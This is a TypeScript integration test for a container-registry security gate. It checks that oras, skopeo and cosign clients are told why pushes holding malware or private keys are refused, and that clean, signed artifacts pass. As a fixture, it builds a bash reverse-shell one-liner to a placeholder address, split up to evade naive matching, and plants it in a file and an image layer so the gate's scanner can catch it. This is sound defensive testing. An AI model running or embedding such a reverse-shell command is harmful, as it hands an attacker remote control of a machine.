/** The gate's answers to real clients: oras, skopeo, podman and cosign, with a real scanner. */
import { generateKeyPairSync } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tarOf, writeTestImage } from '../src/images/images.fixture.ts';
import { runCommand } from '../src/lib/index.ts';
import { type GateFolder, openPlace } from '../src/server/gate/guarded.fixture.ts';

const isInstalled = async (...argv: readonly string[]) =>
  (await runCommand(argv).catch(() => undefined))?.code === 0;
const has = {
  oras: await isInstalled('oras', 'version'),
  skopeo: await isInstalled('skopeo', '--version'),
  cosign: await isInstalled('cosign', 'version'),
};
for (const [name, isThere] of Object.entries(has)) {
  if (!isThere) console.warn(`tests with ${name} are skipped: it is not installed`);
}

const shell = `bash -c 'ba${''}sh -i >& /dev/t${''}cp/192.0.2.1/4444 0>&1'\n`;
let place: GateFolder;
let host: string;
let folder: string;

beforeAll(async () => {
  place = await openPlace();
  host = place.url.replace('http://', '');
  folder = await mkdtemp(join(tmpdir(), 'ward-gate-clients-'));
  await place.policy('rules: { advisories: { missing: allow } }');
  const files = {
    'config.json': JSON.stringify({ auths: { [host]: { auth: 'a2V5OmtleQ==' } } }),
    'start.sh': shell,
    'key.pem': generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }),
    'read.me': 'hello',
    'sbom.json': '{"bomFormat":"CycloneDX","specVersion":"1.6"}',
  };
  for (const [name, content] of Object.entries(files)) await writeFile(join(folder, name), content);
  const image = async (dir: string, content: string) =>
    writeTestImage(join(folder, dir), {
      tag: 'v1',
      layers: [await tarOf([{ name: 'app/start.sh', content }])],
    });
  await image('good', 'echo hello');
  await image('bad', shell);
});
afterAll(async () => {
  await place[Symbol.asyncDispose]();
  await rm(folder, { recursive: true });
});

/** The exit code, and all output as one line. */
async function run(...argv: readonly string[]): Promise<readonly [code: number | null, said: string]> {
  const env = {
    ...process.env,
    HOME: folder,
    DOCKER_CONFIG: folder,
    REGISTRY_AUTH_FILE: join(folder, 'config.json'),
    COSIGN_PASSWORD: '',
  };
  const { code, stdout, stderr } = await runCommand(argv, { cwd: folder, env, timeoutMs: 60_000 });
  return [code, `${stdout}${stderr}`.replaceAll(/\s+/g, ' ')];
}

const oras = (verb: string, ...rest: readonly string[]) => run('oras', verb, '--plain-http', ...rest);
const skopeo = (layout: string, to: string) =>
  run(
    'skopeo',
    '--insecure-policy',
    'copy',
    '--dest-tls-verify=false',
    `oci:${layout}:v1`,
    `docker://${host}/${to}`,
  );

describe.skipIf(!has.oras)('oras', () => {
  it.each([
    ['start.sh', 'denied by policy (malware): 1 malware [reverse-shell-bash at start.sh]'],
    ['key.pem', 'denied by policy (secrets): 1 secrets [private-key at key.pem]'],
  ])('is told why %s is refused, which no one can pull then', async (file, words) => {
    const to = `${host}/guest/oras-${file}:v1`;
    const [code, said] = await oras('push', to, `${file}:text/plain`);
    expect([code, said]).toEqual([1, expect.stringContaining(words)]);
    expect((await oras('pull', to))[0]).toBe(1);
  });

  it('pushes harmless files, a folder, and a document about an image', async () => {
    const to = `${host}/guest/oras:v1`;
    expect((await oras('push', to, 'read.me'))[0]).toBe(0);
    expect((await oras('push', `${host}/guest/oras:folder`, 'good/'))[0]).toBe(0);
    expect(
      (await oras('attach', '--artifact-type', 'application/vnd.cyclonedx+json', to, 'sbom.json'))[0],
    ).toBe(0);
    expect((await oras('discover', to))[1]).toContain('application/vnd.cyclonedx+json');
  });

  it('reports malware in a folder that it packs', async () => {
    await writeFile(join(folder, 'good/start.sh'), shell);
    const [code, said] = await oras('push', `${host}/guest/oras:packed`, 'good/');
    await rm(join(folder, 'good/start.sh'));
    expect([code, said]).toEqual([1, expect.stringContaining('reverse-shell-bash at good/start.sh')]);
  });
});

describe.skipIf(!has.skopeo || !has.cosign)('cosign', () => {
  it('signs, attests and verifies what skopeo pushed through the gate', async () => {
    expect(await skopeo('good', 'guest/signed:v1')).toEqual([0, expect.anything()]);
    const image = `${host}/guest/signed:v1`;
    expect((await run('cosign', 'generate-key-pair'))[0]).toBe(0);
    const flags = ['--allow-http-registry', '--key'];
    expect(
      await run('cosign', 'sign', '--yes', '--tlog-upload=false', ...flags, 'cosign.key', image),
    ).toEqual([0, expect.anything()]);
    const attest = [
      'attest',
      '--yes',
      '--tlog-upload=false',
      '--type',
      'cyclonedx',
      '--predicate',
      'sbom.json',
    ];
    expect((await run('cosign', ...attest, ...flags, 'cosign.key', image))[0]).toBe(0);
    const offline = ['--insecure-ignore-tlog=true', ...flags, 'cosign.pub', image];
    expect((await run('cosign', 'verify', ...offline))[0]).toBe(0);
    expect((await run('cosign', 'verify-attestation', '--type', 'cyclonedx', ...offline))[0]).toBe(0);
  });
});

describe.skipIf(!has.skopeo)('skopeo', () => {
  it('is told why an image is refused', async () => {
    const [code, said] = await skopeo('bad', 'guest/bad:v1');
    expect([code, said]).toEqual([1, expect.stringContaining('[reverse-shell-bash at app/start.sh]')]);
  });
});
